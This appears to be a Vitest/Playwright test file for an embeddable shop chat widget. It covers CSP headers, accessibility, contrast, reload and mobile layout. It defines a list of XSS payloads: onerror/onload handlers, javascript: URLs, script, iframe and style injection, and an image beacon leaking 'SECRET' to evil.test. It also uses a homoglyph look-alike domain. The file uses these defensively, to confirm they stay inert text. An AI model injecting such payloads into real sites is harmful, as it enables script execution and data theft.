import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import webChannel from '../../adapters/web/index.js';
import { createId, type Message } from '../../src/index.js';
import { hasChromium, launchChromium, missingChromiumMessage, screenshotPath, watchPage, type PageWatch } from '../helpers/browser.js';
import { startTestApp, type TestApp } from '../helpers/start-test-chat.js';

if (!hasChromium) console.warn(missingChromiumMessage);

/** Everything RELIABILITY.md 5.4 lists for the widget, raw and entity-encoded. */
const XSS_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '[x](javascript:alert(1))',
  '![i](https://evil.test/?d=SECRET)',
  '<iframe src="https://evil.test/frame"></iframe>',
  '<style>*{display:none!important}</style>',
  '<script>alert(1)</script>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;svg onload=alert(1)&#62;',
  '<a href="jav&#x61;script:alert(1)">click</a>',
];
const XSS_TEXT = XSS_PAYLOADS.join(' ');

describe('the chat widget', () => {
  let server: TestApp;
  let url: string;

  beforeAll(async () => {
    server = await startTestApp({ serveHttp: true, channels: [webChannel], env: { FRONTDESK_HOST: '127.0.0.1' } });
    url = (await server.app.start()).url!;
  });
  afterAll(() => server?.close());

  test('the demo page carries a strict CSP, loads the widget with one script tag and has no inline script or style', async () => {
    const page = await fetch(`${url}/`);
    const csp = page.headers.get('content-security-policy') ?? '';
    for (const directive of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'", "img-src 'self'", "frame-ancestors 'none'", "require-trusted-types-for 'script'"]) expect(csp).toContain(directive);
    const html = await page.text();
    expect(html.match(/<script\b[^>]*>/g)).toEqual(['<script src="/widget.js" defer data-title="Riverside Cycles" data-subtitle="Automated assistant · type &quot;agent&quot; for a person">']);
    expect(html).not.toMatch(/\sstyle=|\son[a-z]+=|<style/i);

    // Any site may embed the widget files; they are never sniffed as anything else.
    for (const [path, type] of [['/widget.js', 'text/javascript'], ['/widget.css', 'text/css']] as const) {
      const response = await fetch(`${url}${path}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toContain(type);
      expect(response.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    }
    // The escaping rule, checked at the source: no HTML sinks and no string-to-code anywhere in the widget.
    const source = (await (await fetch(`${url}/widget.js`)).text()).replace(/\/\*[\s\S]*?\*\/|^\s*\/\/.*$/gm, '');
    expect(source).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|setAttribute\('(href|src|style|on)/);
  });

  describe.skipIf(!hasChromium)('in Chromium', () => {
    let browser: Browser;

    beforeAll(async () => {
      browser = await launchChromium();
    });
    afterAll(async () => {
      await browser?.close();
    });

    const webAdapter = () => server.app.adapters.get('web') as ReturnType<typeof server.app.adapters.get> & { subscriberCount(conversationId: string): number };

    /** The demo page; `withoutCsp` strips its policy, standing in for a host site that has none. */
    async function openPage(viewport = { width: 1280, height: 800 }, { withoutCsp = false } = {}): Promise<{ page: Page; watch: PageWatch }> {
      const context = await browser.newContext({ viewport });
      const page = await context.newPage();
      // Fail fast: nothing in these tests should take seconds.
      page.setDefaultTimeout(5000);
      const watch = watchPage(page);
      if (withoutCsp) {
        await page.route(`${url}/`, async (route) => {
          const response = await route.fetch();
          const { 'content-security-policy': _policy, ...headers } = response.headers();
          await route.fulfill({ response, headers });
        });
      }
      const response = await page.goto(url);
      // Our page always carries its policy: no inline script, only our origin, no framing.
      if (!withoutCsp) expect(response!.headers()['content-security-policy']).toMatch(/script-src 'self'.*connect-src 'self'.*img-src 'self'.*frame-ancestors 'none'/);
      return { page, watch };
    }

    /** Opens the panel and waits for the greeting: the widget opens the conversation on first use. */
    async function openChat(page: Page) {
      await page.getByRole('button', { name: 'Open chat' }).click();
      await page.getByText(/automated assistant for Riverside Cycles/).waitFor();
      return conversationIdOf(page);
    }

    const conversationIdOf = async (page: Page) =>
      page.evaluate(() => JSON.parse(localStorage.getItem(`frontdesk:${location.origin}`) ?? 'null')?.conversationId as string);

    /** Pushes a message the way the delivery layer does (a staff reply, a late bot message): over the event stream. */
    async function push(conversationId: string, message: Pick<Message, 'role' | 'text'> & Partial<Message>) {
      const adapter = webAdapter();
      await waitUntil(() => adapter.subscriberCount(conversationId) > 0, 'the widget to subscribe to events');
      await adapter.send({ id: createId('m'), conversationId, channel: 'web', createdAt: new Date().toISOString(), ...message });
    }

    const shownTexts = (page: Page, role: Message['role']) => page.locator(`.fd-msg--${role} .fd-text`).allTextContents();

    test('a customer opens the bubble, sees the greeting with quick replies, taps one and gets the answer', async () => {
      const { page, watch } = await openPage();
      await page.screenshot({ path: screenshotPath('widget-desktop-closed') });
      await openChat(page);
      const choices = await page.getByRole('group', { name: 'Suggested replies' }).getByRole('button').allTextContents();
      expect(choices).toEqual(['Opening hours', 'Track my order', 'Talk to a person']);

      await page.getByRole('button', { name: 'Opening hours' }).click();
      await page.locator('.fd-msg--bot').nth(1).waitFor();
      expect(await shownTexts(page, 'customer')).toEqual(['What are your opening hours?']);
      // Whatever the knowledge base answers, it is a new bot message (the flows' wording is tested elsewhere).
      expect((await shownTexts(page, 'bot'))[1]).toMatch(/\w/);
      // The greeting's buttons go once answered; the typing dots are gone.
      expect(await page.getByRole('group', { name: 'Suggested replies' }).count()).toBeLessThanOrEqual(1);
      expect(await page.locator('.fd-typing').isHidden()).toBe(true);
      await page.screenshot({ path: screenshotPath('widget-desktop-conversation') });

      // Text contrast of what is on screen now, against the nearest opaque background (WCAG AA: 4.5:1).
      const ratios = await page.locator('frontdesk-chat').evaluate((host) => {
        const rgb = (value: string) => (value.match(/[\d.]+/g) ?? []).map(Number);
        const luminance = ([r, g, b]: number[]) => [r!, g!, b!].map((c) => (c / 255 <= 0.03928 ? c / 255 / 12.92 : ((c / 255 + 0.055) / 1.055) ** 2.4)).reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i]!, 0);
        const background = (element: Element | null): number[] => {
          for (let node = element; node; node = node.parentElement ?? ((node.getRootNode() as ShadowRoot).host as Element | undefined) ?? null) {
            const color = rgb(getComputedStyle(node).backgroundColor);
            if (color.length === 3 || color[3] === 1) return color;
          }
          return [255, 255, 255];
        };
        const result: Record<string, number> = {};
        for (const selector of ['.fd-title', '.fd-status', '.fd-who', '.fd-msg--bot .fd-text', '.fd-msg--customer .fd-text', '.fd-source', '.fd-input']) {
          const element = host.shadowRoot!.querySelector(selector);
          if (!element) continue;
          const [a, b] = [luminance(rgb(getComputedStyle(element).color)), luminance(background(element))].sort((x, y) => y - x);
          result[selector] = Math.round(((a! + 0.05) / (b! + 0.05)) * 100) / 100;
        }
        return result;
      });
      expect(Object.keys(ratios)).toEqual(expect.arrayContaining(['.fd-title', '.fd-status', '.fd-msg--bot .fd-text', '.fd-msg--customer .fd-text']));
      for (const [selector, ratio] of Object.entries(ratios)) expect(ratio, `contrast of ${selector}`).toBeGreaterThanOrEqual(4.5);
      expect(watch).toEqual({ dialogs: [], foreignRequests: [], errors: [] });
    });

    test('product cards, a staff handoff, the bot coming back and a star rating arrive live', async () => {
      const { page, watch } = await openPage();
      const conversationId = await openChat(page);
      await push(conversationId, {
        role: 'bot',
        text: 'These two would suit a towpath commute:',
        cards: [
          { productId: 'P-1001', name: 'Tempo Endurance AL 8', price: 999, currency: 'USD', reason: 'Relaxed riding position, mechanical disc brakes', url: 'https://riversidecycles.example/p/P-1001' },
          { productId: 'P-2001', name: 'Canalside Commuter', price: 649, currency: 'USD', reason: 'Mudguards and a rack included', url: 'javascript:alert(1)' },
        ],
        citations: [{ source: 'catalog.csv' }],
      });
      const cards = page.locator('.fd-card');
      await cards.nth(1).waitFor();
      expect(await cards.locator('.fd-card__name').allTextContents()).toEqual(['Tempo Endurance AL 8', 'Canalside Commuter']);
      expect(await cards.locator('.fd-card__price').allTextContents()).toEqual(['$999.00', '$649.00']);
      const link = cards.first().getByRole('link');
      expect(await link.evaluate((anchor: HTMLAnchorElement) => ({ href: anchor.href, rel: anchor.rel, target: anchor.target }))).toEqual({ href: 'https://riversidecycles.example/p/P-1001', rel: 'noopener noreferrer', target: '_blank' });
      // A javascript: URL is not a link at all.
      expect(await cards.nth(1).getByRole('link').count()).toBe(0);
      expect(await page.locator('.fd-source').last().textContent()).toBe('Source: catalog.csv');
      await page.screenshot({ path: screenshotPath('widget-desktop-cards') });

      await push(conversationId, { role: 'agent', senderName: 'Sam', text: "Hi, I'm Sam from the shop floor. Happy to help you choose." });
      await page.getByText("Hi, I'm Sam").waitFor();
      expect(await page.locator('.fd-status').textContent()).toBe("You're chatting with Sam");
      expect(await page.locator('.fd-note').allTextContents()).toContain("You're chatting with Sam");
      expect(await page.locator('.fd-msg--agent .fd-who').textContent()).toBe('Sam:');
      await page.screenshot({ path: screenshotPath('widget-desktop-handoff') });

      await push(conversationId, {
        role: 'bot',
        text: 'How would you rate your chat today?',
        quickReplies: ['1', '2', '3', '4', '5'].map((value) => ({ label: `${value} out of 5`, value })),
      });
      const stars = page.getByRole('group', { name: 'Rate from 1 to 5 stars' });
      await stars.waitFor();
      expect(await page.locator('.fd-note').last().textContent()).toBe("You're back with the automated assistant");
      expect(await page.locator('.fd-status').textContent()).toMatch(/Automated assistant/);
      expect(await stars.getByRole('button').evaluateAll((buttons) => buttons.map((button) => button.getAttribute('aria-label')))).toEqual(['1 star', '2 stars', '3 stars', '4 stars', '5 stars']);
      await stars.getByRole('button', { name: '4 stars' }).hover();
      await page.screenshot({ path: screenshotPath('widget-desktop-stars') });
      await stars.getByRole('button', { name: '4 stars' }).click();
      await page.locator('.fd-msg--customer').last().getByText('4', { exact: true }).waitFor();
      expect(await stars.count()).toBe(0);
      expect(watch).toEqual({ dialogs: [], foreignRequests: [], errors: [] });
    });

    // Twice: on our page (CSP with Trusted Types) and on a host page with no CSP at all, so the widget's own
    // escaping is what is tested, not only the policy behind it.
    test.for([{ where: 'on our CSP page', withoutCsp: false }, { where: 'on a host page without any CSP', withoutCsp: true }])('XSS payloads from the customer, a bot/knowledge answer and a staff member stay inert, literal text ($where)', async ({ withoutCsp }) => {
      const { page, watch } = await openPage(undefined, { withoutCsp });
      const conversationId = await openChat(page);

      await page.getByLabel('Your message').fill(XSS_TEXT);
      await page.keyboard.press('Enter');
      await page.locator('.fd-msg--bot').nth(1).waitFor();
      await push(conversationId, {
        role: 'bot',
        text: `From our FAQ: ${XSS_TEXT}`,
        citations: [{ source: '<img src=x onerror=alert(1)>.md', heading: '<svg onload=alert(1)>' }],
        quickReplies: [{ label: '<img src=x onerror=alert(1)>', value: '<img src=x onerror=alert(1)>' }],
        cards: [
          { productId: 'P-X', name: '<img src=x onerror=alert(1)>', reason: '<iframe src="https://evil.test/"></iframe>', url: 'javascript:alert(1)', imageUrl: 'javascript:alert(1)' },
          // A look-alike host (Cyrillic і) shows as punycode, so it cannot pass for the shop.
          { productId: 'P-Y', name: 'Homoglyph', url: 'https://r\u0456versidecycles.example/p/1' },
        ],
      });
      await push(conversationId, { role: 'agent', senderName: '<img src=x onerror=alert(1)>', text: `Staff here: ${XSS_TEXT}` });
      await page.getByText(/^Staff here:/).waitFor();
      // Give any onerror/onload handler a moment to fire, if one had been created.
      await page.waitForTimeout(300);

      expect(await shownTexts(page, 'customer')).toEqual([XSS_TEXT]);
      expect(await shownTexts(page, 'bot')).toContain(`From our FAQ: ${XSS_TEXT}`);
      expect(await shownTexts(page, 'agent')).toEqual([`Staff here: ${XSS_TEXT}`]);
      expect(await page.locator('.fd-source').last().textContent()).toBe('Source: <svg onload=alert(1)>');
      expect(await page.locator('.fd-card__name').first().textContent()).toBe('<img src=x onerror=alert(1)>');
      expect(await page.locator('.fd-status').textContent()).toBe("You're chatting with <img src=x onerror=alert(1)>");
      expect(await page.locator('.fd-card__host').last().textContent()).toMatch(/ · xn--/);

      // No element came out of any text: the only links are the one safe card link, the only images none at all.
      const markup = await page.locator('frontdesk-chat').evaluate((host) => ({
        injected: [...host.shadowRoot!.querySelectorAll('.fd-log img, .fd-log iframe, .fd-log script, .fd-log style, .fd-log svg, .fd-log object, .fd-log embed')].map((element) => element.outerHTML),
        links: [...host.shadowRoot!.querySelectorAll('.fd-log a')].map((anchor) => (anchor as HTMLAnchorElement).href),
        pageElements: document.querySelectorAll('body img, body iframe, body > style, body script').length,
      }));
      expect(markup).toEqual({ injected: [], links: [new URL('https://r\u0456versidecycles.example/p/1').href], pageElements: 0 });
      expect(watch).toEqual({ dialogs: [], foreignRequests: [], errors: [] });
      await page.screenshot({ path: screenshotPath(withoutCsp ? 'widget-desktop-xss-no-csp' : 'widget-desktop-xss') });
    });

    test('a reload keeps the conversation: the transcript comes back and live events reconnect', async () => {
      const { page, watch } = await openPage();
      const conversationId = await openChat(page);
      await page.getByRole('button', { name: 'Opening hours' }).click();
      await page.locator('.fd-msg--bot').nth(1).waitFor();
      const before = await page.locator('.fd-msg .fd-text').allTextContents();

      await page.reload();
      // The panel was open, so it reopens (without stealing focus) with the same conversation.
      await page.locator('.fd-msg--bot').nth(1).waitFor();
      expect(await page.locator('.fd-msg .fd-text').allTextContents()).toEqual(before);
      expect(await conversationIdOf(page)).toBe(conversationId);
      expect(await page.getByRole('button', { name: 'Close chat' }).first().getAttribute('aria-expanded')).toBe('true');

      await push(conversationId, { role: 'agent', senderName: 'Sam', text: 'Still there? I can hold a bike for you until Saturday.' });
      await page.getByText('Still there?').waitFor();

      // Closed, a staff reply shows as a count on the bubble (and in its accessible name).
      await page.getByRole('button', { name: 'Close chat' }).last().click();
      await push(conversationId, { role: 'agent', senderName: 'Sam', text: 'It is the blue one in the window.' });
      await page.getByRole('button', { name: 'Open chat (1 new message)' }).waitFor();
      expect(await page.locator('.fd-badge').textContent()).toBe('1');
      await page.screenshot({ path: screenshotPath('widget-desktop-unread') });
      await page.getByRole('button', { name: 'Open chat (1 new message)' }).click();
      await page.getByText('It is the blue one in the window.').waitFor();
      expect(await page.locator('.fd-badge').isHidden()).toBe(true);
      expect(watch).toEqual({ dialogs: [], foreignRequests: [], errors: [] });
    });

    test('keyboard: Tab reaches the bubble, Enter opens with focus in the input, Escape closes back to the bubble', async () => {
      const { page, watch } = await openPage();
      const focused = () =>
        page.evaluate(() => {
          const active = document.activeElement;
          const inner = active?.shadowRoot?.activeElement;
          return inner ? `${active!.tagName.toLowerCase()} ${inner.className || inner.id}` : active?.tagName.toLowerCase();
        });
      for (let presses = 0; presses < 20 && (await focused()) !== 'frontdesk-chat fd-bubble'; presses++) await page.keyboard.press('Tab');
      expect(await focused()).toBe('frontdesk-chat fd-bubble');
      const bubble = page.locator('.fd-bubble');
      // A visible focus ring.
      expect(await bubble.evaluate((element) => getComputedStyle(element).outlineStyle)).toBe('solid');
      expect(await bubble.getAttribute('aria-controls')).toBe('fd-panel');
      expect(await bubble.getAttribute('aria-expanded')).toBe('false');

      await page.keyboard.press('Enter');
      expect(await bubble.getAttribute('aria-expanded')).toBe('true');
      expect(await focused()).toBe('frontdesk-chat fd-input');
      expect(await page.getByRole('dialog', { name: 'Riverside Cycles' }).isVisible()).toBe(true);
      await page.getByText(/automated assistant for Riverside Cycles/).waitFor();
      await page.keyboard.type('hello');
      await page.keyboard.press('Enter');
      await page.locator('.fd-msg--bot').nth(1).waitFor();
      expect(await page.locator('[role="log"][aria-live="polite"]').count()).toBe(1);

      await page.keyboard.press('Escape');
      expect(await page.getByRole('dialog').count()).toBe(0);
      expect(await bubble.getAttribute('aria-expanded')).toBe('false');
      expect(await focused()).toBe('frontdesk-chat fd-bubble');

      // The host page's own "Chat with us" link (data-frontdesk-open) opens it too.
      await page.getByRole('link', { name: 'Chat with us' }).click();
      expect(await page.getByRole('dialog').isVisible()).toBe(true);
      expect(watch).toEqual({ dialogs: [], foreignRequests: [], errors: [] });
    });

    test('on a 375 px phone the panel fills the screen', async () => {
      const { page, watch } = await openPage({ width: 375, height: 740 });
      await page.screenshot({ path: screenshotPath('widget-mobile-closed') });
      const conversationId = await openChat(page);
      expect(await page.locator('.fd-panel').boundingBox()).toEqual({ x: 0, y: 0, width: 375, height: 740 });
      expect(await page.getByRole('dialog').getAttribute('aria-modal')).toBe('true');
      // Modal on a phone: Tab from Send wraps to Close instead of wandering into the page behind.
      await page.getByRole('button', { name: 'Send' }).focus();
      await page.keyboard.press('Tab');
      expect(await page.evaluate(() => document.activeElement?.shadowRoot?.activeElement?.getAttribute('aria-label'))).toBe('Close chat');
      await page.getByRole('button', { name: 'Opening hours' }).click();
      await page.locator('.fd-msg--bot').nth(1).waitFor();
      await push(conversationId, {
        role: 'bot',
        text: 'If you are shopping for a commuter, these are popular:',
        cards: [{ productId: 'P-1001', name: 'Tempo Endurance AL 8', price: 999, currency: 'USD', reason: 'Relaxed riding position', url: 'https://riversidecycles.example/p/P-1001' }],
      });
      await page.locator('.fd-card').waitFor();
      await page.screenshot({ path: screenshotPath('widget-mobile-open') });
      await page.getByRole('button', { name: 'Close chat' }).last().click();
      expect(await page.locator('.fd-bubble').isVisible()).toBe(true);
      expect(watch).toEqual({ dialogs: [], foreignRequests: [], errors: [] });
    });
  });
});

/** Polls a condition the page cannot report directly (a server-side subscription). */
async function waitUntil(condition: () => boolean, what: string, timeoutMilliseconds = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMilliseconds;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMilliseconds} ms waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}
